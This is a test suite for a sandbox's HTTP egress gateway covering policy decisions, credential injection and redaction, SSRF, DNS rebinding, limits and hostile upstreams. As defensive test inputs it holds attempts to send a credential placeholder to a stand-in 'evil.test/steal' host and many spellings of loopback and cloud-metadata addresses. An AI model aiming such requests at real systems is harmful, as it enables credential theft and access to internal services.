// The fetch-level gateway end to end: real HTTP servers and a real DNS server on loopback, the
// Node shim's network, the real policy engine, credentials and audit. Each case asserts what
// the upstream saw (or that it saw nothing), what the sandbox got back, and the audit record.
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { PolicyInput } from "../../core/policy/schema.ts";
import type { SessionContext } from "../../core/policy/types.ts";
import { closeAll, startUpstream, testGateway, type TestNet, type Upstream } from "./test-network.ts";

const TOKEN = "ghp_realSecretValue_0123456789abcdef";
const session: SessionContext = { sessionId: "sesn_gw", toolUseId: "toolu_1", tier: "test" };

const policy: PolicyInput = {
  networking: { type: "limited", allowed_hosts: ["api.github.test", "evil.test", "redirector.test", "slow.test", "endless.test"], allow_package_managers: false, allow_mcp_servers: false },
  deny: [{ name: "no-admin", hosts: ["api.github.test"], paths: ["/admin/**"] }],
  credentials: [{ name: "GITHUB", secret: { env: "GH_TOKEN" }, hosts: ["api.github.test"], in: ["header", "query", "body"] }],
  limits: { timeout_ms: 1_500, response_body_bytes: 1024 * 1024 },
};

let github: Upstream, evil: Upstream, redirector: Upstream, slow: Upstream, endless: Upstream, loop: Upstream;
let net: TestNet;
const ups = () => [github, evil, redirector, slow, endless, loop];

beforeAll(async () => {
  github = await startUpstream("203.0.113.1", (req, res, body) => {
    if (req.url === "/echo-gzip") {
      res.setHeader("content-encoding", "gzip");
      res.end(gzipSync(`you sent ${req.headers.authorization}`));
      return;
    }
    res.setHeader("x-echo", String(req.headers.authorization ?? ""));
    res.end(JSON.stringify({ url: req.url, auth: req.headers.authorization ?? null, body }));
  });
  evil = await startUpstream("203.0.113.2");
  redirector = await startUpstream("203.0.113.3", (req, res) => {
    const to = req.url === "/to-metadata" ? "http://169.254.169.254/latest/meta-data/" : req.url === "/to-forbidden" ? "http://forbidden.test/" : req.url === "/to-github" ? "http://api.github.test/after" : "/";
    res.writeHead(302, { location: to }).end();
  });
  slow = await startUpstream("203.0.113.4", (req, res) => {
    if (req.url === "/drip") {
      res.writeHead(200, { "content-type": "text/plain" });
      const t = setInterval(() => res.write("."), 200); // slowloris: a byte now and then, never the end
      res.on("close", () => clearInterval(t));
    } // else: never answer at all
  });
  endless = await startUpstream("203.0.113.5", (_req, res) => {
    res.writeHead(200, { "content-type": "application/octet-stream" });
    const chunk = Buffer.alloc(64 * 1024, 120);
    const pump = () => {
      while (res.write(chunk));
    };
    res.on("drain", pump);
    pump();
  });
  // A server on loopback itself: the SSRF target. Nothing may ever reach it.
  loop = await startUpstream("127.0.0.1");
  net = await testGateway({
    policy,
    upstreams: [github, evil, redirector, slow, endless],
    env: { GH_TOKEN: TOKEN },
    names: {
      "api.github.test": ["203.0.113.1"],
      "evil.test": ["203.0.113.2"],
      "redirector.test": ["203.0.113.3"],
      "slow.test": ["203.0.113.4"],
      "endless.test": ["203.0.113.5"],
      "forbidden.test": ["203.0.113.9"],
      "localhost.test": ["127.0.0.1"],
    },
  });
});

afterAll(async () => {
  await net?.close();
  await closeAll(ups().filter(Boolean));
});

const lastRecord = async () => (await net.audit.query({ sessionId: session.sessionId })).at(-1)!;
const auditText = async () => JSON.stringify(await net.audit.query({ sessionId: session.sessionId }));

describe("gateway: decisions", () => {
  it("allows a host the policy allows, and audits the rule that decided", async () => {
    const res = await net.gateway.fetch(new Request("http://evil.test/hello?q=1"), session);
    expect(res.status).toBe(200);
    expect(res.headers.get("x-deft-egress")).toBe("allowed");
    expect(JSON.parse(await res.text()).url).toBe("/hello?q=1");
    const rec = await lastRecord();
    expect(rec).toMatchObject({ decision: "allow", rule: "networking.allowed_hosts", host: "evil.test", path: "/hello", status: 200, address: "203.0.113.2", toolUseId: "toolu_1", tier: "test" });
    expect(rec.bytesIn).toBeGreaterThan(0);
  });

  it("denies a host the policy does not name; the upstream sees nothing", async () => {
    const before = github.seen.length;
    const res = await net.gateway.fetch(new Request("http://forbidden.test/x"), session);
    expect(res.status).toBe(403);
    expect(res.headers.get("x-deft-egress")).toBe("denied");
    expect(await res.text()).toMatch(/forbidden\.test/);
    expect(github.seen.length).toBe(before);
    expect(await lastRecord()).toMatchObject({ decision: "deny", rule: "default", host: "forbidden.test" });
  });

  it("a deny rule wins over an allowed host (path pattern, percent-encoded too)", async () => {
    for (const path of ["/admin/users", "/%61dmin/users"]) {
      const res = await net.gateway.fetch(new Request(`http://api.github.test${path}`), session);
      expect(res.status, path).toBe(403);
    }
    expect((await lastRecord()).decision).toBe("deny");
    expect(github.seen.some((s) => s.url.includes("admin"))).toBe(false);
  });

  it("shadow mode lets a denied request through and audits it as shadow-deny", async () => {
    const shadow = await testGateway({ policy: { ...policy, mode: "shadow" }, upstreams: [evil, github], names: { "forbidden.test": ["203.0.113.2"] } });
    try {
      const res = await shadow.gateway.fetch(new Request("http://forbidden.test/would-deny"), session);
      expect(res.status).toBe(200);
      expect(res.headers.get("x-deft-egress")).toBe("shadow");
      await res.text();
      const [rec] = await shadow.audit.query({ sessionId: session.sessionId });
      expect(rec).toMatchObject({ decision: "shadow-deny", rule: "default", status: 200 });
      // The address check is never shadowed.
      const ssrf = await shadow.gateway.fetch(new Request("http://169.254.169.254/latest/meta-data/"), session);
      expect(ssrf.status).toBe(502);
    } finally {
      await shadow.close();
    }
  });
});

describe("gateway: credentials", () => {
  it("injects the real value only for the bound host, in headers, query and body", async () => {
    const res = await net.gateway.fetch(
      new Request("http://api.github.test/repos?token=DEFT_SECRET_GITHUB", { method: "POST", headers: { authorization: "Bearer DEFT_SECRET_GITHUB" }, body: "key=DEFT_SECRET_GITHUB" }),
      session,
    );
    expect(res.status).toBe(200);
    await res.text();
    const got = github.seen.at(-1)!;
    expect(got.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(got.url).toBe(`/repos?token=${encodeURIComponent(TOKEN)}`);
    expect(got.body).toBe(`key=${TOKEN}`);
    const rec = await lastRecord();
    expect(rec.credentials).toEqual(["GITHUB"]);
    expect(await auditText()).not.toContain(TOKEN);
  });

  it("refuses a placeholder bound to another host (header or query), and the other host sees nothing", async () => {
    const before = evil.seen.length;
    for (const req of [new Request("http://evil.test/steal", { headers: { authorization: "Bearer DEFT_SECRET_GITHUB" } }), new Request("http://evil.test/steal?t=DEFT_SECRET_GITHUB")]) {
      const res = await net.gateway.fetch(req, session);
      expect(res.status).toBe(403);
      expect(await res.text()).not.toContain(TOKEN);
    }
    expect(evil.seen.length).toBe(before);
    expect((await lastRecord()).rule).toBe("credentials.GITHUB");
  });

  it("stops a body that carries a placeholder bound to another host; the full placeholder never leaves", async () => {
    const res = await net.gateway.fetch(new Request("http://evil.test/steal", { method: "POST", body: "x".repeat(100) + "DEFT_SECRET_GITHUB" + "y".repeat(100) }), session);
    expect(res.status).toBe(403);
    expect(await res.text()).toMatch(/placeholder of credential GITHUB/);
    expect((await lastRecord()).rule).toBe("credentials.GITHUB");
    expect(evil.seen.some((s) => s.body.includes("DEFT_SECRET_GITHUB") || s.body.includes(TOKEN))).toBe(false);
  });

  it("redacts a secret the upstream echoes back, in headers and body, gzip too", async () => {
    const res = await net.gateway.fetch(new Request("http://api.github.test/echo", { headers: { authorization: "DEFT_SECRET_GITHUB" } }), session);
    const text = await res.text();
    expect(text).not.toContain(TOKEN);
    expect(text).toContain("[REDACTED:GITHUB]");
    expect(res.headers.get("x-echo")).toBe("[REDACTED:GITHUB]");
    expect((await lastRecord()).redactions).toBeGreaterThanOrEqual(2);
    const gz = await net.gateway.fetch(new Request("http://api.github.test/echo-gzip", { headers: { authorization: "DEFT_SECRET_GITHUB" } }), session);
    const gzText = await gz.text();
    expect(gzText).toBe("you sent [REDACTED:GITHUB]");
  });
});

describe("gateway: SSRF", () => {
  const unrestricted: PolicyInput = { networking: { type: "unrestricted" } };
  let open: TestNet;
  beforeAll(async () => {
    open = await testGateway({
      policy: unrestricted,
      upstreams: [],
      names: { "localhost.test": ["127.0.0.1"], "mixed.test": ["203.0.113.2", "10.0.0.7"], "meta.test": ["169.254.169.254"] },
    });
  });
  afterAll(async () => open?.close());

  it("refuses every spelling of a private, loopback, link-local or metadata address", async () => {
    const p = loop.port;
    const urls = [
      `http://127.0.0.1:${p}/`,
      `http://2130706433:${p}/`,
      `http://0177.0.0.1:${p}/`,
      `http://0x7f000001:${p}/`,
      `http://0x7f.0.0.1:${p}/`,
      `http://127.1:${p}/`,
      `http://[::1]:${p}/`,
      `http://[::ffff:127.0.0.1]:${p}/`,
      `http://[::ffff:7f00:1]:${p}/`,
      `http://[0:0:0:0:0:ffff:127.0.0.1]:${p}/`,
      `http://0.0.0.0:${p}/`,
      "http://169.254.169.254/latest/meta-data/",
      "http://[fd00:ec2::254]/latest/meta-data/",
      "http://10.0.0.1/",
      "http://172.16.0.1/",
      "http://192.168.1.1/",
      "http://100.64.0.1/",
      "http://224.0.0.1/",
      "http://[fe80::1]/",
      `http://localhost.test:${p}/`,
      `http://LOCALHOST.TEST.:${p}/`,
      "http://meta.test/",
      "http://mixed.test/",
    ];
    for (const u of urls) {
      const res = await open.gateway.fetch(new Request(u), session);
      expect(res.status, u).toBe(502);
      expect(res.headers.get("x-deft-egress"), u).toBe("denied");
      await res.text();
    }
    expect(loop.connections).toBe(0);
    const recs = await open.audit.query({ sessionId: session.sessionId });
    expect(recs.length).toBe(urls.length);
    expect(recs.every((r) => r.decision === "deny" && r.rule === "address")).toBe(true);
    expect(recs.find((r) => r.host === "169.254.169.254")!.reason).toMatch(/metadata/);
  });

  it("DNS rebinding: one lookup per request, and the connection goes to the address that was checked", async () => {
    const rebinding = await testGateway({
      policy: unrestricted,
      upstreams: [evil],
      // First answer public (routed to `evil`), every later answer loopback.
      names: { "rebind.test": (n) => (n === 1 ? ["203.0.113.2"] : ["127.0.0.1"]) },
    });
    try {
      const before = evil.seen.length;
      const first = await rebinding.gateway.fetch(new Request(`http://rebind.test:${loop.port}/one`), session);
      expect(first.status).toBe(200);
      await first.text();
      expect(evil.seen.length).toBe(before + 1);
      expect(rebinding.dnsQueries("rebind.test")).toBe(1);
      const second = await rebinding.gateway.fetch(new Request(`http://rebind.test:${loop.port}/two`), session);
      expect(second.status).toBe(502);
      await second.text();
      expect(loop.connections).toBe(0);
    } finally {
      await rebinding.close();
    }
  });

  it("re-checks every redirect: to a metadata address, to a host the policy denies", async () => {
    // Limited policy: the metadata address is not an allowed host (403)...
    const meta = await net.gateway.fetch(new Request("http://redirector.test/to-metadata"), session);
    expect(meta.status).toBe(403);
    await meta.text();
    const forbidden = await net.gateway.fetch(new Request("http://redirector.test/to-forbidden"), session);
    expect(forbidden.status).toBe(403);
    await forbidden.text();
    const recs = (await net.audit.query({ sessionId: session.sessionId })).slice(-4);
    expect(recs.map((r) => `${r.host}:${r.decision}`)).toEqual(["redirector.test:allow", "169.254.169.254:deny", "redirector.test:allow", "forbidden.test:deny"]);
    // A redirect within the policy is followed, credentials re-bound to the new host.
    const ok = await net.gateway.fetch(new Request("http://redirector.test/to-github"), session);
    expect(ok.status).toBe(200);
    expect(JSON.parse(await ok.text()).url).toBe("/after");
    // With redirect: "manual" the 3xx comes back as it is.
    const manual = await net.gateway.fetch(new Request("http://redirector.test/to-metadata", { redirect: "manual" }), session);
    expect(manual.status).toBe(302);
    // ...and unrestricted: the address check refuses the hop (502).
    const open = await testGateway({ policy: unrestricted, upstreams: [redirector], names: { "redirector.test": ["203.0.113.3"] } });
    try {
      const hop = await open.gateway.fetch(new Request("http://redirector.test/to-metadata"), session);
      expect(hop.status).toBe(502);
      expect(await hop.text()).toMatch(/169\.254\.169\.254 \(metadata\)/);
      expect((await open.audit.query({ sessionId: session.sessionId })).map((r) => `${r.host}:${r.decision}:${r.rule}`)).toEqual(["redirector.test:allow:networking.unrestricted", "169.254.169.254:deny:address"]);
    } finally {
      await open.close();
    }
  });
});

describe("gateway: limits", () => {
  it("refuses past the per-session rate (429) and a request body over the size limit (413), audited", async () => {
    const lim = await testGateway({
      policy: { networking: { type: "limited", allowed_hosts: ["evil.test"] }, limits: { requests_per_minute: 3, request_body_bytes: 1000 } },
      upstreams: [evil],
      names: { "evil.test": ["203.0.113.2"] },
    });
    try {
      const before = evil.seen.length;
      const big = await lim.gateway.fetch(new Request("http://evil.test/up", { method: "POST", headers: { "content-length": "5000" }, body: "x".repeat(5000) }), session);
      expect(big.status).toBe(413);
      await big.text();
      // Without a declared length the limit cuts the streamed body instead.
      const streamed = new ReadableStream<Uint8Array>({
        start(c) {
          for (let i = 0; i < 10; i++) c.enqueue(new Uint8Array(500));
          c.close();
        },
      });
      const cut = await lim.gateway.fetch(new Request("http://evil.test/up", { method: "POST", body: streamed, duplex: "half" } as RequestInit), session);
      expect(cut.status).toBe(413);
      await cut.text();
      const third = await lim.gateway.fetch(new Request("http://evil.test/ok"), session);
      expect(third.status).toBe(200);
      await third.text();
      const fourth = await lim.gateway.fetch(new Request("http://evil.test/ok"), session);
      expect(fourth.status).toBe(429);
      await fourth.text();
      // Another session has its own budget.
      const other = await lim.gateway.fetch(new Request("http://evil.test/ok"), { ...session, sessionId: "sesn_other" });
      expect(other.status).toBe(200);
      await other.text();
      expect(evil.seen.filter((x) => x.url === "/up" && x.body.length >= 1000).length).toBe(0);
      expect(evil.seen.length - before).toBeLessThanOrEqual(3);
      const rules = (await lim.audit.query({ sessionId: session.sessionId })).map((r) => r.rule);
      expect(rules).toEqual(["limits.request_body_bytes", "limits.request_body_bytes", "networking.allowed_hosts", "limits.requests_per_minute"]);
    } finally {
      await lim.close();
    }
  });
});

describe("gateway: streaming", () => {
  it("streams an SSE response event by event: the first event arrives while the upstream still holds the second", async () => {
    let sendSecond!: () => void;
    const second = new Promise<void>((r) => (sendSecond = r));
    const sse = await startUpstream("203.0.113.6", (_req, res) => {
      res.writeHead(200, { "content-type": "text/event-stream" });
      res.write("data: one\n\n");
      void second.then(() => res.end("data: two\n\n"));
    });
    const s = await testGateway({ policy: { networking: { type: "limited", allowed_hosts: ["sse.test"] } }, upstreams: [sse], names: { "sse.test": ["203.0.113.6"] } });
    try {
      const res = await s.gateway.fetch(new Request("http://sse.test/events"), session);
      const reader = res.body!.getReader();
      const dec = new TextDecoder();
      expect(dec.decode((await reader.read()).value)).toBe("data: one\n\n"); // before the second was sent
      sendSecond();
      let rest = "";
      for (let c = await reader.read(); !c.done; c = await reader.read()) rest += dec.decode(c.value);
      expect(rest).toBe("data: two\n\n");
    } finally {
      await s.close();
      await closeAll([sse]);
    }
  });
});

describe("gateway: hostile upstreams", () => {
  it("an upstream that never answers is cut off at the policy's timeout", async () => {
    const res = await net.gateway.fetch(new Request("http://slow.test/never"), session);
    expect(res.status).toBe(502);
    expect(await res.text()).toMatch(/no answer within 1500 ms/);
  });

  it("a slowloris body is cut off at the policy's timeout", async () => {
    const res = await net.gateway.fetch(new Request("http://slow.test/drip"), session);
    expect(res.status).toBe(200);
    await expect(res.text()).rejects.toThrow();
    expect((await lastRecord()).error).toBeTruthy();
  });

  it("an endless body stops at the response size limit", async () => {
    const res = await net.gateway.fetch(new Request("http://endless.test/"), session);
    expect(res.status).toBe(200);
    await expect(res.arrayBuffer()).rejects.toThrow(/over the 1048576-byte limit/);
    const rec = await lastRecord();
    expect(rec.error).toMatch(/over the 1048576-byte limit/);
    expect(rec.bytesIn).toBeLessThan(2 * 1024 * 1024);
  });
});
